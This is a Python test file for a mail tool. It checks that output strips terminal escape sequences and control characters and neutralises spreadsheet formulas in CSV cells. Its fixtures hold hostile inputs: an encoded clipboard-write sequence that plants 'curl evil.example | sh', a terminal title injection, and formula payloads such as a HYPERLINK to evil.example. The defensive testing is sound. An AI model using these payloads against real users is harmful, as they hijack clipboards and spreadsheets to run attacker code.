"""Mail text at the output edges: no terminal escape sequence or control character is
printed or exported, and no CSV cell is a spreadsheet formula (issue 15)."""
from __future__ import annotations

import csv
import io
import json
import re

import pytest

from tests.fakes import DOWNTIME, make_eml
from tests.system.test_cli import fakes, run  # noqa: F401 - fixtures

OSC_TITLE = "\x1b]0;owned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"
HOSTILE = f"Downtime{OSC_TITLE} notice{OSC_CLIPBOARD} \x1b[2J\x1b[31mred\x1b[0m \x9b1;1H\x9d0;c1\x9c end\x7f\x85"
# Anything a terminal could act on; tab and line feed are checked where they are allowed.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")

FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text, shown", [
    (OSC_TITLE + "x", "x"),
    (OSC_CLIPBOARD + "x", "x"),
    ("a\x1b[2Jb\x1b[38;5;1mc", "abc"),
    ("a\x9b2Jb\x9d0;t\x9cc\x90q\x9cd", "abcd"),  # C1 forms of CSI, OSC, DCS
    ("a\x1bcb\x1b(Bc\x1b", "abc"),  # reset, charset, a lone ESC
    ("a\x1b]0;unterminated\nb", "a b"),  # stops at the end of the line
    ("a\x00b\x7fc\x85d", "abcd"),
    ("one\r\ntwo\tthree\rfour", "one two three four"),
    ("Zürich — ✓", "Zürich — ✓"),
])
def test_printable_removes_whole_escape_sequences_and_controls(text, shown):
    from caltac_inbox.display import printable

    assert printable(text) == shown


def test_printable_multiline_keeps_line_breaks_and_tabs():
    from caltac_inbox.display import printable

    assert printable("a\r\nb\rc\td\x1b]0;x\x07e\x0b", multiline=True) == "a\nb\nc\tde"


def test_csv_cells_starting_a_formula_are_quoted_and_numbers_are_not():
    from caltac_inbox.display import csv_cell

    for text in FORMULAS:
        assert csv_cell(text, text) == "'" + text
    assert csv_cell("2020-08-14 17:00", "2020-08-14 17:00") == "2020-08-14 17:00"
    assert csv_cell(-5, "-5") == "-5"  # a number from the store, negative or not, is data
    assert csv_cell(2.5, "2.5") == "2.5"
    assert csv_cell("-5", "-5") == "'-5"  # the same characters as text from a notice are not
    assert csv_cell(True, "yes") == "yes"


def test_json_line_escapes_del_and_c1_too():
    from caltac_inbox.display import json_line

    line = json_line({"subject": "a\x1bb\x7fc\x9bd"})
    assert not CONTROL.search(line)
    assert json.loads(line) == {"subject": "a\x1bb\x7fc\x9bd"}  # nothing lost


def _hostile_db(run, tmp_path):
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    mail = tmp_path / "mail"
    mail.mkdir()
    evidence = f"TOMS will be down{OSC_TITLE}.\x1b[1A\x9b2K"
    deadline = {"kind": "deadline", "program": "CAASPP", "due": "2020-08-20", "action": FORMULAS[0],
                "evidence": evidence}
    task = {"kind": "deadline", "program": "ELPAC", "due": "2020-08-21", "action": "-2+3", "evidence": "x"}
    downtime = dict(DOWNTIME, evidence=evidence, systems=["TOMS\x1b]0;t\x07"])
    (mail / "a.eml").write_bytes(make_eml(subject=HOSTILE, message_id="<a\x1b[2J@x>",
                                          facts=[deadline, task, downtime]))
    (mail / "b.eml").write_bytes(make_eml(subject=FORMULAS[0], message_id="<b@x>"))
    assert run("--db", url, "ingest", mail).exit_code == 0
    return url


def test_no_control_character_reaches_the_terminal_or_the_calendar(run, fakes, tmp_path):  # noqa: F811
    url = _hostile_db(run, tmp_path)
    outputs = {}
    for args in (("messages",), ("messages", "--csv"), ("messages", "--json"), ("timeline",),
                 ("timeline", "--csv"), ("timeline", "--json"), ("upcoming", "--as-of", "2020-08-01"),
                 ("show", "1"), ("show", "2"), ("show", "3"), ("show", "1", "--json"), ("export-ics",)):
        result = run("--db", url, *args)
        assert result.exit_code == 0, (args, result.output)
        outputs[args] = result.output
    for args, out in outputs.items():
        text = out.replace("\r\n", "\n") if args == ("export-ics",) else out
        assert not CONTROL.search(text), (args, CONTROL.findall(text))
        if "--json" not in args:  # JSON keeps the text, escaped
            assert "owned" not in text and "Y3VybC" not in text, args  # the sequences went whole
    shown = " ".join(" ".join(outputs[("show", n)].split()) for n in ("1", "2", "3"))
    assert "Downtime notice red end <a" in shown
    assert "TOMS will be down." in shown
    assert "\t" not in outputs[("export-ics",)]
    assert "SUMMARY:[unverified] CAASPP downtime: TOMS" in outputs[("export-ics",)]  # no trusted server named
    # JSON keeps the text, escaped: nothing is lost for a program reading it
    assert json.loads(outputs[("messages", "--json")].splitlines()[0])["subject"] == HOSTILE


def test_every_csv_output_neutralises_formulas(run, fakes, tmp_path):  # noqa: F811
    url = _hostile_db(run, tmp_path)
    messages = list(csv.DictReader(io.StringIO(run("--db", url, "messages", "--csv").output)))
    assert messages[1]["subject"] == "'" + FORMULAS[0]
    assert [m["id"] for m in messages] == ["1", "2"] and messages[0]["facts"] == "3"
    timeline = list(csv.DictReader(io.StringIO(run("--db", url, "timeline", "--csv").output)))
    whats = {row["what"] for row in timeline}
    assert {"'" + FORMULAS[0], "'-2+3"} <= whats
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in timeline for cell in row.values())
    extracted = list(csv.DictReader(io.StringIO(run("extract", tmp_path / "mail", "--csv").output)))
    assert {"'" + FORMULAS[0], "'-2+3"} <= {row["what"] for row in extracted}
